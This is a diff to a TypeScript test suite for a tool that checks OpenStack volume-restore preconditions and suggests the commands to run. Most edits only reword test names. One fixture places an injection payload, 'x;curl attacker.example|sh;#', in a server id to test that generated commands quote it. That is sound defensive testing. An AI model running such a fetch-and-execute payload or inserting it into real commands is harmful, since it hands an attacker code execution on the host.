@@ -35,7 +35,7 @@ function problems({ volume = {}, backup = {}, expect = {} }: Seen) {
 describe('commands to paste', () => {
   const odd = { server_id: 'x;curl attacker.example|sh;#', server_name: 'db1' };
 
-  it('hold ids as words, so that nothing of them runs', () => {
+  it('quote ids so that nothing in them runs', () => {
     const [wait] = unmetPreconditions({ ...VOLUME, status: 'in-use', attachments: [odd] }, BACKUP);
     expect(wait?.commands).to.deep.equal([
       "openstack server stop 'x;curl attacker.example|sh;#'",
@@ -133,7 +133,7 @@ describe('identityProblems', () => {
   for (const [name, [seen, codes]] of Object.entries(cases))
     it(name, () => expect(problems(seen).map(({ code }) => code)).to.deep.equal(codes));
 
-  it('are errors, each with a way out', () => {
+  it('are errors, each with a remedy', () => {
     const all = problems({
       volume: { project_id: 'p2', status: 'error', size: 1 },
       backup: { project_id: 'p2', status: 'error' },
@@ -145,7 +145,7 @@ describe('identityProblems', () => {
     }
   });
 
-  it('say both values of what is not as expected, and where to mend it', () => {
+  it('show the expected and the real value, and where to fix it', () => {
     const [name] = problems({ volume: { name: '' }, expect: { volume_name: 'data' } });
     expect(name?.summary).to.equal('expected volume name data, but it is (none)');
     expect(name?.remedy).to.contain('expect.volume_name');
@@ -153,7 +153,7 @@ describe('identityProblems', () => {
     expect(server?.summary).to.equal('expected server db2, but it is db1 (/dev/vdb)');
   });
 
-  it('pass on what the service says of a broken backup', () => {
+  it('include the message of the service about a broken backup', () => {
     const [broken] = problems({ backup: { status: 'error', fail_reason: 'no space' } });
     expect(broken?.detail).to.contain('no space');
   });
@@ -215,19 +215,19 @@ describe('unmetPreconditions', () => {
   for (const [name, [volume, backup, expected]] of Object.entries(cases))
     it(name, () => expect(whats(volume, backup)).to.deep.equal(expected));
 
-  describe('another backup of the disk, being made', () => {
+  describe('a backup of the disk that is being created', () => {
     const other = { ...BACKUP, id: 'c', name: 'hourly', status: 'creating' };
     const made = (volume: Partial<Volume>, pendingBackups: Backup[]) =>
       unmetPreconditions({ ...VOLUME, ...volume }, BACKUP, pendingBackups).map(({ what }) => what);
     it('is waited for', () =>
       expect(made({}, [other])).to.deep.equal(['backup hourly of this disk, being made, to end']));
-    it('is told once where the disk tells it, too', () =>
+    it('is reported once if the status of the disk shows it, too', () =>
       expect(made({ status: 'backing-up' }, [other])).to.have.length(1));
-    it('is of no concern when it is of another disk', () =>
+    it('is ignored if it is of another disk', () =>
       expect(made({}, [{ ...other, volume_id: 'w' }])).to.deep.equal([]));
-    it('is of no concern when it is made', () =>
+    it('is ignored once it is complete', () =>
       expect(made({}, [{ ...other, status: 'available' }])).to.deep.equal([]));
-    it('is not waited for twice when it is the one to restore', () =>
+    it('is waited for once if it is the one to restore', () =>
       expect(
         unmetPreconditions(VOLUME, { ...BACKUP, status: 'creating' }, [
           { ...BACKUP, status: 'creating' },
@@ -235,7 +235,7 @@ describe('unmetPreconditions', () => {
       ).to.deep.equal(['the backup to be made']));
   });
 
-  it('gives the commands that call off a transfer', () => {
+  it('list the commands that cancel a transfer', () => {
     const [wait] = unmetPreconditions({ ...VOLUME, status: 'awaiting-transfer' }, BACKUP);
     expect(wait?.commands).to.deep.equal([
       'openstack volume transfer request list',
@@ -243,7 +243,7 @@ describe('unmetPreconditions', () => {
     ]);
   });
 
-  it('gives the commands that detach, in their order', () => {
+  it('list the commands that detach, in order', () => {
     const [wait] = unmetPreconditions({ ...VOLUME, status: 'in-use', attachments: [NAMED] }, BACKUP);
     expect(wait?.commands).to.deep.equal([
       'openstack server stop id-1',
@@ -264,14 +264,14 @@ describe('warnings', () => {
   ] as const)
     it(name, () => expect(codes(volume)).to.deep.equal(expected));
 
-  it('say what to do after the restore of a disk extended since', () => {
+  it('say what to do after the restore of an extended disk', () => {
     const [warning] = warnings({ ...VOLUME, size: 20 }, BACKUP);
     expect(warning?.summary).to.contain('20 GB').and.to.contain('10 GB');
     expect(warning?.remedy).to.contain('growpart').and.to.contain('resize2fs').and.to.contain('xfs_growfs');
   });
 });
 
-describe('what helps against a refusal', () => {
+describe('the remedy for an error code of the service', () => {
   for (const [code, expected] of [
     ['VolumeBackup.0042', 'right to restore'],
     ['VolumeBackup.0111', 'project and region'],
@@ -281,14 +281,14 @@ describe('what helps against a refusal', () => {
     ['VolumeBackup.0211', 'Storage Disaster Recovery Service'],
   ] as const)
     it(code, () => expect(remedyOf(code)).to.contain(expected));
-  it('nothing is invented for other codes', () => {
+  it('is missing for unknown codes', () => {
     expect(remedyOf('VolumeBackup.9999')).to.equal(undefined);
     expect(remedyOf(undefined)).to.equal(undefined);
   });
 });
 
 describe('describeAttachment', () => {
-  it('prefers the name and adds the device', () => {
+  it('uses the name of the server and adds the device', () => {
     expect(describeAttachment(NAMED)).to.equal('db1 (/dev/vdb)');
     expect(describeAttachment({ server_id: 'id-1' })).to.equal('id-1');
   });
